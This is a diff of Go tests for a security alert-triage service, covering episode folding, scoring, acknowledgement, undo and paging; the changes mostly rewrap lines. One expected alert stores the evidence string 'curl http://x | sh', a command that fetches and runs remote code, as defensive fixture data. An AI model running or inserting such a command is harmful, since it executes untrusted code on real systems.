@@ -83,8 +83,9 @@ func firing(rule, host, event string, after time.Duration, change ...func(*triag
 	}
 	e.AddString(ecs.Message, "Failed password for "+host)
 	f := triage.Firing{
-		Hit:   soc.Hit{Rule: rule, RuleVersion: "v1", Event: event, System: "HT-001", Source: "NG-0001", Time: at},
-		Rule:  soc.RuleInfo{ID: rule, Version: "v1", Title: map[string]string{"vi": "Dò mật khẩu " + rule, "en": "Guessing " + rule}, Severity: soc.High, Status: "stable", Attack: []string{"T1110"}},
+		Hit: soc.Hit{Rule: rule, RuleVersion: "v1", Event: event, System: "HT-001", Source: "NG-0001", Time: at},
+		Rule: soc.RuleInfo{ID: rule, Version: "v1", Title: map[string]string{"vi": "Dò mật khẩu " + rule, "en": "Guessing " + rule},
+			Severity: soc.High, Status: "stable", Attack: []string{"T1110"}},
 		Event: e, Unit: "DV-01", Level: 3, Exposure: soc.PlacementDataCentre,
 		Trace: []soc.Condition{{Search: "selection", Field: "message", Op: "contains", Want: "Failed", Got: "Failed password", Matched: true}},
 	}
@@ -158,15 +159,23 @@ func TestEpisodes(t *testing.T) {
 		firings []triage.Firing
 		want    []string // by number
 	}{
-		{"hits within an hour fold", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 59*m), firing("r", "a", "3", 118*m)}, []string{"CB-2026-000001 a×3"}},
-		{"an hour without hits ends it", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", h+m)}, []string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
-		{"late hits widen it backwards", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", -50*m), firing("r", "a", "3", -100*m)}, []string{"CB-2026-000001 a×3"}},
-		{"old hits are another episode", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", -24*h), firing("r", "a", "3", -24*h+m), firing("r", "a", "4", m)},
+		{"hits within an hour fold", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 59*m), firing("r", "a", "3", 118*m)},
+			[]string{"CB-2026-000001 a×3"}},
+		{"an hour without hits ends it", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", h+m)},
+			[]string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
+		{"late hits widen it backwards", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", -50*m), firing("r", "a", "3", -100*m)},
+			[]string{"CB-2026-000001 a×3"}},
+		{"old hits are another episode", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", -24*h), firing("r", "a", "3", -24*h+m),
+			firing("r", "a", "4", m)},
 			[]string{"CB-2026-000001 a×2", "CB-2026-000002 a×2"}},
-		{"hosts differ, case does not", []triage.Firing{firing("r", "A", "1", 0), firing("r", "a", "2", 0), firing("r", "b", "3", 0)}, []string{"CB-2026-000001 a×2", "CB-2026-000002 b×1"}},
-		{"rules differ", []triage.Firing{firing("r", "a", "1", 0), firing("s", "a", "2", 0)}, []string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
-		{"systems differ", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 0, system("HT-002"))}, []string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
-		{"exercise and sample never fold into the real", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 0, exercise), firing("r", "a", "3", 0, demo)},
+		{"hosts differ, case does not", []triage.Firing{firing("r", "A", "1", 0), firing("r", "a", "2", 0), firing("r", "b", "3", 0)},
+			[]string{"CB-2026-000001 a×2", "CB-2026-000002 b×1"}},
+		{"rules differ", []triage.Firing{firing("r", "a", "1", 0), firing("s", "a", "2", 0)},
+			[]string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
+		{"systems differ", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 0, system("HT-002"))},
+			[]string{"CB-2026-000001 a×1", "CB-2026-000002 a×1"}},
+		{"exercise and sample never fold into the real",
+			[]triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "2", 0, exercise), firing("r", "a", "3", 0, demo)},
 			[]string{"CB-2026-000001 a×1", "CB-2026-000002 a×1", "CB-2026-000003 a×1"}},
 		{"the same event counts once", []triage.Firing{firing("r", "a", "1", 0), firing("r", "a", "1", 0)}, []string{"CB-2026-000001 a×1"}},
 		{"a correlation counts what it counted", []triage.Firing{firing("c", "a", "9", 0, func(f *triage.Firing) {
@@ -205,11 +214,14 @@ func TestAlertHoldsWhatFired(t *testing.T) {
 		made := d.apply(7, f)
 		a := reopen().get("CB-2026-000001")
 		want := soc.Alert{
-			ID: made[0].ID, Number: "CB-2026-000001", Rule: "r", RuleVersion: "v1", Title: f.Rule.Title, Severity: soc.Critical, Score: 55 + 12 + 5 + 10,
+			ID: made[0].ID, Number: "CB-2026-000001", Rule: "r", RuleVersion: "v1", Title: f.Rule.Title, Severity: soc.Critical,
+			Score:      55 + 12 + 5 + 10,
 			ScoreParts: map[string]int{"severity": 55, "level": 12, "exposure": 5, "trust": 10, "repetition": 0},
-			System:     "HT-001", Unit: "DV-01", Source: "NG-0001", Host: "web-02", User: "www-data", Address: "203.0.113.9", Group: []soc.GroupValue{},
+			System:     "HT-001", Unit: "DV-01", Source: "NG-0001", Host: "web-02", User: "www-data", Address: "203.0.113.9",
+			Group: []soc.GroupValue{},
 			State: soc.AlertNew, First: noon.UnixMilli(), Last: noon.UnixMilli(), Created: noon.UnixMilli(), Changed: noon.UnixMilli(), Count: 1,
-			Events: []string{"ev1"}, Evidence: "nginx → sh -c ·curl http://x | sh", Trace: f.Trace, Attack: []string{"T1110"}, Personal: true, Version: 1,
+			Events: []string{"ev1"}, Evidence: "nginx → sh -c ·curl http://x | sh", Trace: f.Trace, Attack: []string{"T1110"}, Personal: true,
+			Version: 1,
 		}
 		if diff := cmp.Diff(want, a); diff != "" {
 			t.Errorf("stored alert (-want +got):\n%s", diff)
@@ -282,7 +294,8 @@ func TestOutboxFailureLeavesNothing(t *testing.T) {
 		ctx := context.Background()
 		boom := errors.New("boom")
 		d.fail = boom
-		if _, err := d.Apply(ctx, triage.Position{Reader: "detect", Epoch: "e1", Seq: 1}, []triage.Firing{firing("r", "a", "1", 0)}, nil); !errors.Is(err, boom) {
+		if _, err := d.Apply(ctx, triage.Position{Reader: "detect", Epoch: "e1", Seq: 1}, []triage.Firing{firing("r", "a", "1", 0)},
+			nil); !errors.Is(err, boom) {
 			t.Fatalf("Apply = %v, want the outbox's error", err)
 		}
 		if got := d.list(triage.Query{}); len(got) != 0 || len(d.notices) != 0 {
@@ -308,7 +321,8 @@ func TestEventsAreBoundedAndCountIsExact(t *testing.T) {
 		}
 		a := d.get("CB-2026-000001")
 		if a.Count != 1200 || len(a.Events) != 50 || a.Events[0] != "ev0001" || a.Events[1] != "ev1152" || a.Events[49] != "ev1200" {
-			t.Errorf("count %d, %d events %s %s … %s; want 1200, 50, the first and the newest", a.Count, len(a.Events), a.Events[0], a.Events[1], a.Events[49])
+			t.Errorf("count %d, %d events %s %s … %s; want 1200, 50, the first and the newest", a.Count, len(a.Events), a.Events[0], a.Events[1],
+				a.Events[49])
 		}
 		if a.ScoreParts["repetition"] != 8 || a.Score != 42+12+5+10+8 {
 			t.Errorf("score %d of %v", a.Score, a.ScoreParts)
@@ -419,7 +433,8 @@ func TestCloseAndReopenRules(t *testing.T) {
 				}
 				return
 			}
-			if a.State != soc.AlertClosed || a.CloseReason != tc.reason || a.Closed != noon.UnixMilli() || a.ClosedBy != duty1.Name || a.Holder != duty1.ID || a.Acknowledged == 0 {
+			if a.State != soc.AlertClosed || a.CloseReason != tc.reason || a.Closed != noon.UnixMilli() || a.ClosedBy != duty1.Name ||
+				a.Holder != duty1.ID || a.Acknowledged == 0 {
 				t.Errorf("closed alert: %+v", a)
 			}
 			if r.Undo == "" || r.UndoUntil != noon.UnixMilli()+10_000 {
@@ -469,7 +484,8 @@ func TestTwoPersonsOnOneAlert(t *testing.T) {
 		}
 		d.pass(3 * time.Second)
 		_, err := d.Acknowledge(ctx, duty1, all, ref, false)
-		if p := problem(err); p.Code != triage.CodeAcknowledged || p.Status != 409 || p.Values["by"] != duty2.Name || p.Values["at"] != fmt.Sprint(noon.UnixMilli()) {
+		if p := problem(err); p.Code != triage.CodeAcknowledged || p.Status != 409 || p.Values["by"] != duty2.Name ||
+			p.Values["at"] != fmt.Sprint(noon.UnixMilli()) {
 			t.Errorf("second acknowledge = %+v, want who and when", p)
 		}
 		if r, err := d.Acknowledge(ctx, duty2, all, ref, false); err != nil || r.Undo != "" {
@@ -528,9 +544,11 @@ func TestUndo(t *testing.T) {
 	each(t, func(t *testing.T, d *desk, _ func() *desk) {
 		ctx := context.Background()
 		d.apply(1, firing("r", "a", "1", 0), firing("r", "b", "2", 0), firing("r", "c", "3", 0))
-		refs := []triage.Ref{{ID: "CB-2026-000001"}, {ID: "CB-2026-000002"}, {ID: "CB-2026-000003"}, {ID: "CB-2026-999999"}, {ID: "CB-2026-000001"}}
+		refs := []triage.Ref{{ID: "CB-2026-000001"}, {ID: "CB-2026-000002"}, {ID: "CB-2026-000003"}, {ID: "CB-2026-999999"},
+			{ID: "CB-2026-000001"}}
 		r, err := d.Close(ctx, duty1, all, refs, "duplicate", "")
-		if err != nil || len(r.Changed) != 3 || len(r.Failed) != 1 || r.Failed[0].ID != "CB-2026-999999" || r.Failed[0].Problem.Code != triage.CodeNotFound {
+		if err != nil || len(r.Changed) != 3 || len(r.Failed) != 1 || r.Failed[0].ID != "CB-2026-999999" ||
+			r.Failed[0].Problem.Code != triage.CodeNotFound {
 			t.Fatalf("Close of many = %+v, %v", r, err)
 		}
 		if _, err := d.Undo(ctx, duty2, all, r.Undo); code(err) != triage.CodeUndo {
@@ -542,7 +560,8 @@ func TestUndo(t *testing.T) {
 			t.Fatal(err)
 		}
 		u, err := d.Undo(ctx, duty1, all, r.Undo)
-		if err != nil || len(u.Changed) != 2 || len(u.Failed) != 1 || u.Failed[0].Problem.Code != triage.CodeConflict || u.Failed[0].Problem.Values["by"] != duty2.Name {
+		if err != nil || len(u.Changed) != 2 || len(u.Failed) != 1 || u.Failed[0].Problem.Code != triage.CodeConflict ||
+			u.Failed[0].Problem.Values["by"] != duty2.Name {
 			t.Fatalf("Undo = %+v, %v; want two back and one conflict", u, err)
 		}
 		a := d.get("CB-2026-000001")
@@ -607,7 +626,8 @@ func TestNote(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if n := notes[len(notes)-1]; n.Action != "note" || n.Text != "đã gọi đơn vị vận hành" || n.Name != duty1.Name || n.Actor != duty1.ID || n.Time == 0 {
+	if n := notes[len(notes)-1]; n.Action != "note" || n.Text != "đã gọi đơn vị vận hành" || n.Name != duty1.Name || n.Actor != duty1.ID ||
+		n.Time == 0 {
 		t.Errorf("note %+v", n)
 	}
 }
@@ -677,7 +697,8 @@ func TestListFiltersSortsAndPages(t *testing.T) {
 		var fs []triage.Firing
 		severities := []soc.Severity{soc.Informational, soc.Low, soc.Medium, soc.High, soc.Critical}
 		for i := range 25 {
-			fs = append(fs, firing(fmt.Sprintf("r%d", i%5), fmt.Sprintf("h%02d", i), fmt.Sprintf("e%d", i), time.Duration(i%7)*time.Minute, severity(severities[i%5])))
+			fs = append(fs, firing(fmt.Sprintf("r%d", i%5), fmt.Sprintf("h%02d", i), fmt.Sprintf("e%d", i), time.Duration(i%7)*time.Minute,
+				severity(severities[i%5])))
 		}
 		fs = append(fs, firing("rx", "tràng-an", "x1", 0, exercise), firing("rd", "mau", "d1", 0, demo))
 		d.apply(1, fs...)
@@ -720,7 +741,8 @@ func TestListFiltersSortsAndPages(t *testing.T) {
 				t.Errorf("%s: total %d with %d rows, %v; want %d", tc.name, p.Total, len(p.Items), err, tc.want)
 			}
 		}
-		for _, sort := range []string{"", "score", "-score", "last", "-last", "first", "-first", "created", "-created", "severity", "-severity", "count", "-count", "number", "-number"} {
+		for _, sort := range []string{"", "score", "-score", "last", "-last", "first", "-first", "created", "-created", "severity", "-severity",
+			"count", "-count", "number", "-number"} {
 			whole, err := d.List(ctx, all, triage.Query{Sort: sort, Limit: 500})
 			if err != nil {
 				t.Fatalf("sort %q: %v", sort, err)
@@ -752,7 +774,8 @@ func TestListFiltersSortsAndPages(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		for name, q := range map[string]triage.Query{"another sort": {Sort: "last", Cursor: p.Next}, "rubbish": {Cursor: "!!"}, "empty object": {Cursor: "e30"}} {
+		for name, q := range map[string]triage.Query{"another sort": {Sort: "last", Cursor: p.Next}, "rubbish": {Cursor: "!!"},
+			"empty object": {Cursor: "e30"}} {
 			if _, err := d.List(ctx, all, q); code(err) != triage.CodeCursor {
 				t.Errorf("cursor of %s = %v", name, err)
 			}
@@ -764,12 +787,14 @@ func TestListFiltersSortsAndPages(t *testing.T) {
 			t.Errorf("unknown group = %v", err)
 		}
 		g, n, err := d.Groups(ctx, all, triage.Filter{}, "rule", 2)
-		if err != nil || n != 6 || len(g) != 2 || g[0].Value != "r4" || g[0].Severity != soc.Critical || g[0].Alerts != 5 || g[0].Title["vi"] == "" {
+		if err != nil || n != 6 || len(g) != 2 || g[0].Value != "r4" || g[0].Severity != soc.Critical || g[0].Alerts != 5 ||
+			g[0].Title["vi"] == "" {
 			t.Errorf("Groups by rule = %+v of %d, %v", g, n, err)
 		}
 		d.pass(time.Minute)
 		c, err := d.Counts(ctx, all, duty1.ID, false)
-		want := triage.Counts{Unacknowledged: 23, Mine: 1, Urgent: 11, Open: 24, Exercise: 1, Today: 26, ClosedToday: 2, OldestNew: noon.UnixMilli(), LastClosed: noon.UnixMilli()}
+		want := triage.Counts{Unacknowledged: 23, Mine: 1, Urgent: 11, Open: 24, Exercise: 1, Today: 26, ClosedToday: 2,
+			OldestNew: noon.UnixMilli(), LastClosed: noon.UnixMilli()}
 		if diff := cmp.Diff(want, c); diff != "" || err != nil {
 			t.Errorf("Counts: %v (-want +got):\n%s", err, diff)
 		}
@@ -791,7 +816,8 @@ func TestManyAtOnce(t *testing.T) {
 			wg.Go(func() {
 				for i := range batches {
 					f := firing("r", fmt.Sprintf("h%d", i%3), fmt.Sprintf("e%d-%d", w, i), time.Duration(i)*time.Second)
-					if _, err := d.Apply(ctx, triage.Position{Reader: fmt.Sprintf("reader%d", w), Epoch: "e1", Seq: uint64(i + 1)}, []triage.Firing{f}, nil); err != nil {
+					if _, err := d.Apply(ctx, triage.Position{Reader: fmt.Sprintf("reader%d", w), Epoch: "e1", Seq: uint64(i + 1)}, []triage.Firing{f},
+						nil); err != nil {
 						t.Errorf("writer %d batch %d: %v", w, i, err)
 					}
 					if _, err := d.Acknowledge(ctx, duty1, all, []triage.Ref{{ID: "CB-2026-000001"}}, true); err != nil {
